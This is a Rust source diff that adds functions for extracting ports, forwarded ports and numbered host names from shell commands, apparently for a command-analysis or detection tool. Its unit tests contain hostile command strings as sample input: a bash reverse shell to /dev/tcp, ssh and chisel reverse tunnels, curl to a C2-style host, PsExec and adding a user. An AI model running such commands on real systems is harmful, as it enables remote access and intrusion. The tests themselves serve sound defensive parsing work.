@@ -1,6 +1,9 @@
 //! The numbers that a command was given.
 
 use super::mask::{GUID, is_guid, is_hexadecimal};
+use super::named::is_name;
+use super::temporary;
+use super::token::is_made_up;
 use super::varies::{differs_each_time, ends_with};
 
 /// The numbers in a command, each with the word before it: `chmod 4755`, `/d 1`, `evil.example 8080`. Not those of processes and times.
@@ -25,12 +28,74 @@ pub(super) fn numbers(command: &str) -> impl Iterator<Item = String> {
             if tool == Some(Tool::Installer) && word.len() == GUID && is_guid(word) {
                 return Some(format!("{} {}", shown(option), word.to_lowercase()));
             }
+            if let Some(ports) = forwarded(option, word) {
+                return Some(format!("forward {ports}"));
+            }
+            // `/dev/tcp/203.0.113.9/4444`, which the shell reads as a connection.
+            let reached = ["/dev/tcp/", "/dev/udp/"]
+                .iter()
+                .find_map(|folder| word.split_once(folder));
+            if let Some((_, (_, rest))) = reached.and_then(|(before, rest)| Some((before, rest.split_once('/')?))) {
+                let digits = rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len());
+                return is_number(&rest[..digits]).then(|| format!("port {}", &rest[..digits]));
+            }
             // `http://evil.example:8080/x`, but no time of a day.
             let (host, rest) = word.rsplit_once(':')?;
             let port = rest.split('/').next().unwrap_or_default();
             let named = host.contains(|c: char| c.is_alphabetic() || c == '.');
             (named && port.len() > 1 && is_number(port) && !differs_each_time("", word)).then(|| format!("port {port}"))
         })
+}
+
+/// The ports that one machine passes on to another: `-R 4444:localhost:22`, `R:4444:localhost:22`.
+fn forwarded(option: &str, word: &str) -> Option<String> {
+    let is_short = (1..=6).contains(&option.len()) && option.bytes().all(|byte| byte.is_ascii_alphanumeric());
+    let named = is_short && option.ends_with(['R', 'L']);
+    let letters = |text: &str| text.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(text.len());
+    // `-fNR4444:localhost:22`.
+    let attached = word.strip_prefix('-').map(|word| word.split_at(letters(word)));
+    let attached = attached.filter(|(options, _)| options.len() <= 6 && options.ends_with(['R', 'L']));
+    let own = word.strip_prefix("R:").or(attached.map(|(_, places)| places));
+    let places = own.or(named.then_some(word)).filter(|places| places.contains(':'))?;
+    let ports: Vec<_> = places.split([':', '/']).filter(|part| is_number(part)).collect();
+    (!ports.is_empty()).then(|| ports.join(":"))
+}
+
+/// The names in a command of which a part is a number alone: `srv-01`, `c2-01.example`, `svc_01`. Others stand in the key.
+pub(super) fn names(command: &str) -> impl Iterator<Item = String> {
+    const MOST_BYTES: usize = 8_192;
+    let head = crate::text::cut(command, MOST_BYTES);
+    let joins = |byte: &u8| matches!(byte, b'-' | b'_' | b'.');
+    let bytes = head.as_bytes();
+    let may_be = bytes
+        .windows(3)
+        .any(|three| three[0].is_ascii_alphanumeric() && joins(&three[1]) && three[2].is_ascii_digit());
+    let plain = if may_be {
+        temporary::without_names(head)
+    } else {
+        String::new()
+    };
+    let found: Vec<_> = plain
+        .split(|c: char| !c.is_alphanumeric() && !matches!(c, '-' | '_' | '.' | '#'))
+        .map(|word| word.trim_matches(['-', '_', '.']))
+        .filter(|word| is_chosen(word))
+        .map(str::to_lowercase)
+        .collect();
+    found.into_iter()
+}
+
+/// Whether a word is a name of which a part is a number alone, and tells neither a date nor what was made up.
+fn is_chosen(word: &str) -> bool {
+    let is_digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
+    let parts = || word.split(['-', '_', '.']);
+    let is_year = |part: &str| part.len() == 4 && (part.starts_with("19") || part.starts_with("20"));
+    let is_date = || {
+        let ends = parts().skip(1);
+        parts()
+            .zip(ends)
+            .any(|(one, next)| is_year(one) && is_digits(one) && is_digits(next))
+    };
+    parts().any(is_digits) && is_name(word) && !word.contains('#') && !is_date() && !parts().any(is_made_up)
 }
 
 /// Whether a command names a file by where it is seen from: `./x`, or a script by its name alone.
@@ -192,6 +257,19 @@ mod tests {
         ] {
             assert!(!is_relative(command), "{command}");
         }
+        for (command, expected) in [
+            ("ssh -R 4444:localhost:22 a.example", &["forward 4444:22"][..]),
+            ("ssh -fNR4444:localhost:22 a.example", &["forward 4444:22"]),
+            ("ssh -fNL 0.0.0.0:4444:localhost:22 x", &["forward 4444:22"]),
+            (
+                "chisel client a.example:8080 R:4444:socks",
+                &["port 8080", "forward 4444"],
+            ),
+            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", &["port 4444"]),
+            ("cat </dev/udp/c2-01.example/53", &["port 53"]),
+        ] {
+            assert_eq!(numbers(command).collect::<Vec<_>>(), expected, "{command}");
+        }
         for command in [
             "/usr/bin/kill 4711",
             "kill -9 4711 4712",
@@ -203,6 +281,35 @@ mod tests {
             "a.exe --since 2026-11-29T04:00:01Z",
         ] {
             assert_eq!(numbers(command).count(), 0, "{command}");
+        }
+    }
+    #[test]
+    fn names_whose_number_stands_alone_are_told_and_what_was_made_up_is_not() {
+        for (command, expected) in [
+            (r"PsExec \\SRV-01 cmd", &["srv-01"][..]),
+            ("curl http://c2-01.example/a", &["c2-01.example"]),
+            (
+                "nc ec2-203-0-113-9.compute.example 22",
+                &["ec2-203-0-113-9.compute.example"],
+            ),
+            ("net user svc-01 /add", &["svc-01"]),
+            ("userdel --x='svc_01'", &["svc_01"]),
+            ("kubectl exec -it web-0 -- sh", &["web-0"]),
+            ("ssh root@db.02", &["db.02"]),
+        ] {
+            assert_eq!(names(command).collect::<Vec<_>>(), expected, "{command}");
+        }
+        for command in [
+            "net user svc1 /add",
+            "sh /tmp/web-01.sh",
+            "restore db-2026-11-29.bak --since 2026-11-29",
+            "restore db-20261129-040001.bak",
+            "x sess-4711 worker-17 conn-5001",
+            "a.exe --mojo-handle=4008.12345 --x=1948,i 10.0.0.1 0.5",
+            "x 5770385f-c22a-43e0-bf4c-06f5698ffbd9",
+            "tail -1 v1.2.3",
+        ] {
+            assert_eq!(names(command).count(), 0, "{command}");
         }
     }
 }
